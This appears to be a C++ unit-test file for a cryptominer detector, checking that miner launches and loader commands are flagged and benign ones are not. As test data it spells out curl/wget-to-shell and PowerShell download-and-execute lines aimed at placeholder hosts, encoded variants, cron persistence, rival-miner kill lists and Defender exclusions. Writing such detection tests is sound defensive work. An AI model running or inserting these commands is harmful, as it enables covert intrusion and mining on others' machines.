#include <gtest/gtest.h>

#include <algorithm>

#include "agent/match/miner/miner_sign.h"
#include "agent/match/miner/text_place.h"
#include "konseki/finding.h"

namespace konseki {
namespace {

const MinerData& data() {
  static const MinerData kData = *MinerData::with({});
  return kData;
}

// 95 characters of the alphabet, as an address of the network looks; it belongs to nobody.
std::string wallet() { return "4" + std::string("3AbCdEfGh") + std::string(85, '7'); }

std::vector<std::string> names_of(const std::vector<MinerSign>& signs) {
  std::vector<std::string> names;
  for (const MinerSign& sign : signs) names.push_back(sign.name);
  std::sort(names.begin(), names.end());
  return names;
}

bool has(const std::vector<MinerSign>& signs, std::string_view name) {
  return std::any_of(signs.begin(), signs.end(),
                     [&](const MinerSign& sign) { return sign.name == name; });
}

int score_of(const std::vector<MinerSign>& signs) {
  std::vector<int> scores;
  for (const MinerSign& sign : signs) scores.push_back(sign.score);
  return combine_scores(scores);
}

std::vector<MinerSign> started(std::string_view command) {
  return signs_in_command(command, CommandPlace::kStartsByItself, data());
}

TEST(MinerSigns, AMinersCommandLine) {
  const auto signs = started("@reboot /var/tmp/.font/kthreadd -o pool.example.invalid:14444 -u " +
                             wallet() + " -p x -k --donate-level=1 >/dev/null 2>&1");
  EXPECT_TRUE(has(signs, "option.donate_level"));
  EXPECT_TRUE(has(signs, "option.pool_and_user"));
  EXPECT_TRUE(has(signs, "wallet.monero"));
  EXPECT_TRUE(has(signs, "name.imitates_system"));
  EXPECT_TRUE(has(signs, "path.hidden"));
  EXPECT_GE(score_of(signs), 70);
}

TEST(MinerSigns, AUnitWithAnAlgorithm) {
  const auto signs = signs_in_script(
      "[Service]\nExecStart=/usr/lib/netns --algo rx/0 --url a.example.invalid:443 --user " +
          wallet() + " --pass x\n",
      CommandPlace::kStartsByItself, data());
  EXPECT_TRUE(has(signs, "option.algorithm"));
  EXPECT_TRUE(has(signs, "name.imitates_system"));
  EXPECT_GE(score_of(signs), 70);
}

TEST(MinerSigns, LoadersInTheirForms) {
  for (const char* command : {
           "*/15 * * * * root (curl -fsSL http://a.example/i.sh||wget -q -O- "
           "http://a.example/i.sh)|sh",
           "curl http://a.example/x | sudo bash",
           "bash <(curl -s http://a.example/x)",
           "sh -c \"$(wget -qO- http://a.example/x)\"",
           "eval `curl http://a.example/x`",
           "powershell -w hidden iex (New-Object "
           "Net.WebClient).DownloadString('http://a.example/x')",
       }) {
    const auto signs = started(command);
    EXPECT_TRUE(std::any_of(signs.begin(), signs.end(), [](const MinerSign& sign) {
      return sign.kind == MinerSignKind::kLoader;
    })) << command;
    EXPECT_GE(score_of(signs), 70) << command;
  }
}

TEST(MinerSigns, WhatIsDecodedToRunIsLookedInto) {
  // curl http://a.example.invalid/x|sh
  const auto signs =
      started("* * * * * echo Y3VybCBodHRwOi8vYS5leGFtcGxlLmludmFsaWQveHxzaA==|base64 -d|bash");
  EXPECT_TRUE(has(signs, "loader.decode_and_run"));
  EXPECT_TRUE(has(signs, "loader.fetch_and_run"));
  // UTF-16 of: xmrig --donate-level 1
  const auto windows = started(
      "powershell.exe -NoP -Enc "
      "eABtAHIAaQBnACAALQAtAGQAbwBuAGEAdABlAC0AbABlAHYAZQBsACAAMQA=");
  EXPECT_TRUE(has(windows, "option.donate_level"));
  EXPECT_TRUE(has(windows, "name.miner"));
}

TEST(MinerSigns, OrdinaryCommandsHaveNone) {
  for (const char* command : {
           "0 3 * * * root /usr/bin/certbot renew -q",
           "30 2 * * 0 root wget -q -O /etc/hosts.block https://lists.example.invalid/hosts",
           "@daily backup /usr/local/bin/backup.sh -u backup -p 22 -o report.txt",
           "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
           "tar -czf - /srv | ssh backup@host 'cat > x.tgz'",
           "curl -s https://example.invalid/health | grep -q ok",
           "echo aGVsbG8gd29ybGQsIGhlbGxv | base64 -d > /tmp/x",
           "gcc -a ethernet -o out:12 x.c",
           "powershell.exe -ExecutionPolicy Bypass -File C:\\x.ps1",
       }) {
    EXPECT_TRUE(started(command).empty()) << command << ": " << names_of(started(command))[0];
  }
}

TEST(MinerSigns, ScriptsOfIntruders) {
  const auto signs = signs_in_script(
      "#!/bin/sh\nunset HISTFILE\nsysctl -w vm.nr_hugepages=1280\nmodprobe msr\n"
      "pkill -f xmrig\npkill -f kdevtmpfsi\nkillall minerd\nchattr +i /var/spool/cron/root\n",
      CommandPlace::kScript, data());
  EXPECT_TRUE(has(signs, "host.kill_list"));
  EXPECT_TRUE(has(signs, "host.huge_pages"));
  EXPECT_TRUE(has(signs, "host.immutable"));
  EXPECT_FALSE(has(signs, "name.miner")) << "what is killed is not what runs";
}

TEST(MinerSigns, WalletsOfOtherCoinsCountWhereMinersHaveThem) {
  const std::string ether = "0x" + std::string(40, 'a');
  EXPECT_TRUE(
      has(started("/opt/x --algo etchash -o pool.example.invalid:1010 -u " + ether + ".rig1"),
          "wallet.other"));
  EXPECT_TRUE(has(started("/opt/x -o a.example.invalid:4444 -u kaspa:" + std::string(61, 'q')),
                  "wallet.other"));
  EXPECT_FALSE(has(started("cast balance " + ether), "wallet.other"));
  EXPECT_FALSE(has(started("mysql -u administrator -p secret"), "wallet.other"));
}

TEST(MinerSigns, FormsOfWindows) {
  for (const char* command : {
           "C:\\Users\\Public\\svc.exe --cinit-stealth-targets=Taskmgr.exe",
           "%TEMP%\\x.exe -o a.example.invalid:3333 -u x -k --nicehash",
           "C:\\ProgramData\\xmrig.exe --config=c.json",
       }) {
    EXPECT_GE(score_of(started(command)), 55) << command;
  }
  EXPECT_TRUE(has(started("C:\\Users\\Public\\svc.exe"), "path.hidden"));
  EXPECT_TRUE(
      has(started("powershell Add-MpPreference -ExclusionPath C:\\"), "host.defender_exclusion"));
  EXPECT_TRUE(has(started("sc create WinRing0_1_2_0 binPath= C:\\x\\WinRing0x64.sys type= kernel"),
                  "host.winring0"));
  EXPECT_TRUE(has(started("secedit SeLockMemoryPrivilege = *S-1-5-21-1"), "host.lock_memory"));
}

TEST(MinerSigns, HugePagesAndRegistersInFilesOfSettings) {
  EXPECT_EQ(place_of_text("/etc/sysctl.d/99-x.conf", "a"), CommandPlace::kStartsByItself);
  EXPECT_TRUE(has(signs_in_script("vm.nr_hugepages=1280\n", CommandPlace::kStartsByItself, data()),
                  "host.huge_pages"));
  EXPECT_TRUE(has(signs_in_script("# modules\nloop\nmsr\n", CommandPlace::kStartsByItself, data()),
                  "host.msr"));
}

TEST(MinerSigns, ABlockListIsNoScript) {
  std::string list;
  for (int i = 0; i < 30; ++i) list += "echo 0.0.0.0 h" + std::to_string(i) + ".nanopool.org\n";
  EXPECT_TRUE(signs_in_script(list, CommandPlace::kScript, data()).empty() ||
              score_of(signs_in_script(list, CommandPlace::kScript, data())) < 70);
}

TEST(MinerSigns, ConfigurationsByContent) {
  const auto xmrig = signs_in_configuration(
      "{ // comment\n \"donate-level\": 0, \"randomx\": {\"mode\": \"auto\"},\n"
      " \"pools\": [ { \"url\": \"a.example.invalid:3333\", \"user\": \"" +
          wallet() + "\", \"pass\": \"x\", \"algo\": \"rx/0\", } ] }",
      data());
  EXPECT_TRUE(has(xmrig, "configuration"));
  EXPECT_TRUE(has(xmrig, "wallet.monero"));
  EXPECT_TRUE(has(signs_in_configuration(
                      "\"pool_list\" : [ {\"pool_address\" : \"x.example:1\", \"wallet_address\" : "
                      "\"a\", \"pool_password\" : \"x\"}, ],",
                      data()),
                  "configuration"));
  for (
      const char* other : {
          R"({"pools":[{"name":"db","url":"postgres://db.internal:5432/app","user":"app"}],"max":10})",
          R"({"pool":{"min":2,"max":10},"threads":4,"cpu":{"enabled":false}})",
          R"({"algorithms":["HS256"],"user":"root","pass":"x","url":"https://example.invalid"})",
          R"({"name":"app","scripts":{"start":"node ."},"dependencies":{"express":"^4"}})",
      }) {
    EXPECT_TRUE(signs_in_configuration(other, data()).empty()) << other;
  }
}

TEST(MinerSigns, HostileInputEnds) {
  std::string deep(200'000, '[');
  EXPECT_TRUE(signs_in_configuration(deep, data()).empty());
  EXPECT_TRUE(signs_in_configuration(std::string(100'000, '"'), data()).empty());
  std::string echo = "echo ";
  for (int i = 0; i < 100'000; ++i) echo += "|sh";
  started(echo);
  started(std::string(500'000, '/'));
  signs_in_script(std::string(500'000, '\\') + "\n", CommandPlace::kScript, data());
}

TEST(MinerData, NamesPoolsAndReplacement) {
  EXPECT_EQ(data().kind_of("kworker/0:1"), MinerName::kSystem);
  EXPECT_EQ(data().kind_of("kswapd0"), MinerName::kSystem);
  EXPECT_EQ(data().kind_of("XMRig.exe"), MinerName::kMiner);
  EXPECT_EQ(data().kind_of("bash"), MinerName::kNone);
  EXPECT_EQ(data().pool_of("xmr-eu1.nanopool.org"), "nanopool.org");
  EXPECT_EQ(data().pool_of("notnanopool.org"), "");
  const std::pair<std::string_view, std::string_view> mine[] = {
      {"miner-pools.tsv", "pool.test.example\tpool\t2026\tours\n"}};
  const auto replaced = MinerData::with(mine);
  ASSERT_TRUE(replaced);
  EXPECT_EQ(replaced->pool_of("a.pool.test.example"), "pool.test.example");
  EXPECT_EQ(replaced->pool_of("nanopool.org"), "");
  const std::pair<std::string_view, std::string_view> wrong[] = {{"miner-ports.tsv", "# x\nabc\n"}};
  const auto failed = MinerData::with(wrong);
  ASSERT_FALSE(failed);
  EXPECT_EQ(failed.error().detail, "miner-ports.tsv:2: no port");
  const std::pair<std::string_view, std::string_view> other[] = {{"pools.tsv", ""}};
  EXPECT_FALSE(MinerData::with(other));
}

TEST(MinerText, PlacesByPathAndContent) {
  EXPECT_EQ(place_of_text("/etc/cron.d/x", "a"), CommandPlace::kStartsByItself);
  EXPECT_EQ(place_of_text("/root/.bash_history", "a"), CommandPlace::kHistory);
  EXPECT_EQ(place_of_text("/x/y", "#!/bin/sh\n"), CommandPlace::kScript);
  EXPECT_EQ(place_of_text("/x/y.conf", "*/5 * * * * root x\n"), CommandPlace::kStartsByItself);
  EXPECT_EQ(place_of_text("/x/README.md", "xmrig -o pool"), std::nullopt);
  EXPECT_EQ(place_of_text("/x/y.conf", "a = b\n"), std::nullopt);
  EXPECT_FALSE(is_plain_text(std::string_view("a\0b", 3)));
}

}  // namespace
}  // namespace konseki
